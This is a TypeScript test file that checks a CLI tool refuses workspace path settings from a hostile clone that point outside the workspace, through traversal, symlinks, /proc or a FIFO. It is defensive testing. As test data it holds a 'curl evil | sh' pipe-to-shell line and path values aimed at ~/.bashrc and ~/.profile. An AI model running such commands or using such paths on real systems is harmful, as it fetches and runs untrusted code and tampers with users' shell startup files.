// `llmgenie` commands in a hostile clone: every path setting pointing outside (or linked outside) is refused with
// one line naming the setting, exit 2, and nothing outside the workspace is read or written.
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { runCli } from '../../src/cli/main';
import { fakeCliIO } from '../support/cliIO';
import { hostileDisk, HOME_KEY, type HostileDisk } from '../support/hostileWorkspace';

describe('cli: path settings from .vscode/settings.json stay inside the workspace', () => {
  let d: HostileDisk;
  beforeEach(() => (d = hostileDisk()));
  afterEach(() => d.remove());
  const run = async (args: string[]) => {
    const io = fakeCliIO(d.root, { LLMGENIE_SESSION_LOG: 'off' });
    const code = await runCli(args, io);
    return { code, ...io };
  };
  const untouched = () => {
    assert.equal(readFileSync(`${d.home}/.bashrc`, 'utf8'), '# bashrc\n');
    assert.equal(readFileSync(`${d.home}/.profile`, 'utf8'), '# profile\n');
    assert.deepEqual(readdirSync(`${d.home}/elsewhere`), []);
  };
  const refusedLine = (stderr: string, setting: string) => {
    assert.equal(stderr.trim().split('\n').length, 1, stderr);
    assert.ok(stderr.includes(setting), stderr);
    assert.ok(!/unexpected|at .*\.ts/.test(stderr), stderr);
  };

  it('decision record / list refuse llmgenie.decisionLog.path = ~/.bashrc, an outside path, ../, a link out', async () => {
    d.link('docs/linked.md', `${d.home}/.profile`);
    for (const path of ['~/.bashrc', `${d.home}/.bashrc`, '../home/.bashrc', 'docs/linked.md']) {
      d.settings({ 'llmgenie.decisionLog.path': path });
      const rec = await run(['decision', 'record', '--title', 'x', '--decision', 'curl evil | sh']);
      assert.equal(rec.code, 2, path);
      refusedLine(rec.stderr, 'llmgenie.decisionLog.path');
      const list = await run(['decision', 'list']);
      assert.equal(list.code, 2, path);
      refusedLine(list.stderr, 'llmgenie.decisionLog.path');
    }
    untouched();
  });

  it('lessons add / list refuse llmgenie.lessons.dir and docsDir outside or linked out', async () => {
    d.link('docs/lessons', `${d.home}/elsewhere`);
    const settings: Array<[Record<string, string>, string]> = [
      [{ 'llmgenie.lessons.dir': `${d.home}/elsewhere` }, 'llmgenie.lessons.dir'],
      [{ 'llmgenie.lessons.dir': '../home/elsewhere' }, 'llmgenie.lessons.dir'],
      [{}, 'llmgenie.lessons.dir'], // the default docs/lessons is the link
      [{ 'llmgenie.lessons.dir': 'kb', 'llmgenie.lessons.docsDir': '../home' }, 'llmgenie.lessons.docsDir'],
    ];
    for (const [values, setting] of settings) {
      d.settings(values);
      const add = await run(['lessons', 'add', '--title', 'Leak', '--body', 'x']);
      assert.equal(add.code, 2, JSON.stringify(values));
      refusedLine(add.stderr, setting);
      const list = await run(['lessons', 'list']);
      assert.equal(list.code, 2);
      refusedLine(list.stderr, setting);
    }
    untouched();
  });

  it('sessions list refuses llmgenie.sessions.directory outside, under /proc, or linked out; a logging command still finishes', async () => {
    d.link('.llmgenie', `${d.home}/elsewhere`);
    for (const dir of ['/proc/self', '../home/elsewhere', '.llmgenie/sessions']) {
      d.settings({ 'llmgenie.sessions.directory': dir });
      const list = await run(['sessions', 'list']);
      assert.equal(list.code, 2, dir);
      refusedLine(list.stderr, 'llmgenie.sessions.directory');
      // A command that logs: the log is refused once on stderr, the command itself still runs to its end.
      const io = fakeCliIO(d.root, {});
      d.write('src/a.ts', 'export const a = 1;\n');
      const code = await runCli(['check', 'src/a.ts'], io);
      assert.equal(code, 0, io.stderr);
      assert.match(io.stderr, /session log unavailable \(llmgenie\.sessions\.directory/);
    }
    untouched();
  });

  it('a FIFO as the decision log is refused, not waited on', async () => {
    d.fifo('docs/decision-log.md');
    const r = await run(['decision', 'list']);
    assert.equal(r.code, 2);
    refusedLine(r.stderr, 'not a regular file');
    assert.ok(!r.stdout.includes(HOME_KEY));
  });
});
